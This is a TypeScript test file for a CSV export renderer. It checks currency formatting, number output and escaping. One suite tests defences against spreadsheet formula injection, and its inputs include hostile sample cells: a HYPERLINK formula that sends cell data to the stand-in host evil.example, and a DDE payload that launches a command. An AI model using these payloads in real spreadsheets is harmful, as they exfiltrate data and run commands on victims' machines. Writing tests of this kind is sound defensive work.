import { readFileSync } from 'node:fs';
import { parse } from 'csv-parse/sync';
import fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import type { Table } from '../../src/domain/answer.ts';
import { cleanText } from '../../src/domain/clean-text.ts';
import { renderCsv, safeText } from '../../src/render/csv.ts';
import { sharedPath } from '../helpers/shared.ts';

const read = (csv: string): string[][] => parse(csv);

const skus: Table = {
  id: 'pnl.skus',
  label: 'By product',
  columns: [
    { id: 'sku', label: 'SKU', unit: 'text' },
    { id: 'netSales', label: 'Net sales', unit: 'money' },
    { id: 'units', label: 'Units', unit: 'count' },
    { id: 'margin', label: 'Margin', unit: 'ratio' },
  ],
  rows: [
    { sku: 'KRT-101', netSales: 123_450, units: 12, margin: 0.525 },
    { sku: 'Dupatta, "indigo"', netSales: -5, units: 0, margin: null },
    { sku: 'SAR-310', netSales: null, units: 1e21, margin: 1e-7 },
    { sku: null, units: 3, margin: Number.NaN },
  ],
};

describe('renderCsv', () => {
  it('writes one table alone, money as a plain decimal with its currency in the head', () => {
    expect(renderCsv([skus], 'INR')).toBe(
      [
        'SKU,Net sales (INR),Units,Margin',
        'KRT-101,1234.50,12,0.525',
        '"Dupatta, ""indigo""",-0.05,0,',
        'SAR-310,,1000000000000000000000,0.0000001',
        ',,3,',
        '',
      ].join('\n'),
    );
  });

  it('keeps each currency to its own decimals', () => {
    expect(renderCsv([skus], 'JPY').split('\n')[1]).toBe('KRT-101,123450,12,0.525');
    expect(renderCsv([skus], 'KWD').split('\n')[1]).toBe('KRT-101,123.450,12,0.525');
  });

  it('names each of several tables', () => {
    const empty: Table = { ...skus, id: 'pnl.channels', rows: [] };
    expect(renderCsv([empty, empty], 'INR')).toBe(
      '# pnl.channels\nSKU,Net sales (INR),Units,Margin\n\n# pnl.channels\nSKU,Net sales (INR),Units,Margin\n',
    );
    expect(renderCsv([], 'INR')).toBe('');
  });

  it('says that the demo shop is invented', () => {
    const columns = skus.columns.slice(0, 1);
    expect(renderCsv([{ ...skus, columns, rows: [] }], 'INR', { demo: true })).toBe(
      '# DEMO SHOP – invented data\nSKU\n',
    );
  });

  it('never writes −0 or an exponent', () => {
    const rows = [-1e-12, -0, -2.5e-3, 1e15, Infinity].map((margin) => ({ margin }));
    expect(renderCsv([{ ...skus, columns: skus.columns.slice(3), rows }], 'INR')).toBe(
      'Margin\n0\n0\n-0.0025\n1000000000000000\n\n',
    );
  });

  it('reads back equal, one leading apostrophe aside', () => {
    fc.assert(
      fc.property(fc.array(fc.string({ unit: 'binary' }), { minLength: 1 }), (texts) => {
        const rows = texts.map((sku) => ({ sku: `x${sku}` }));
        const csv = renderCsv(
          [{ ...skus, columns: [{ id: 'sku', label: '=SKU', unit: 'text' }], rows }],
          'INR',
        );
        const [head, ...cells] = read(csv);
        expect(head).toEqual(["'=SKU"]);
        expect(cells.map(([cell]) => cell)).toEqual(rows.map(({ sku }) => cleanText(sku)));
      }),
    );
  });
});

describe('a text that a spreadsheet could run', () => {
  it.each([
    '=1+1',
    '+1+1',
    '-1+1',
    '@SUM(1+1)',
    '=HYPERLINK("http://evil.example/?d="&A1,"click")',
    '\t=1+1',
    ' \r\n=1+1',
    '"=1+1"',
    ';=1',
    ',=1',
    '＝1+1',
    '－1',
    '%0A=1+1',
    '%09@x',
    '\u0000=1',
    '\u200B=1',
    '\u200C=1',
    'DDE ("cmd";"/C calc")',
    '+91 98765 43210',
    '-',
    '@handle is a customer note',
  ])('gets an apostrophe: %j', (text) => {
    expect(safeText(text)).toBe(`'${cleanText(text)}`);
  });

  it.each(['-12.50', '-1', '₹-500', '(500)', '1e5', 'Kurta = cotton', '', '०-१'])('is not %j', (text) => {
    expect(safeText(text)).toBe(text);
  });

  it('is not confused with a text that already starts with an apostrophe', () => {
    expect(safeText("'=1")).toBe("''=1");
    expect(safeText("'tis")).toBe("''tis");
  });

  const cells = sharedPath('security/csv-formula-cells.json');
  it.skipIf(cells === undefined)('is every cell of the reference list', () => {
    const list = JSON.parse(readFileSync(cells ?? '', 'utf8')) as { must_be_neutralised: string[] };
    expect(list.must_be_neutralised.length).toBe(25);
    for (const text of list.must_be_neutralised) {
      const csv = renderCsv([{ ...skus, columns: skus.columns.slice(0, 1), rows: [{ sku: text }] }], 'INR');
      expect(read(csv)[1]?.[0]?.[0]).toBe("'");
    }
  });
});
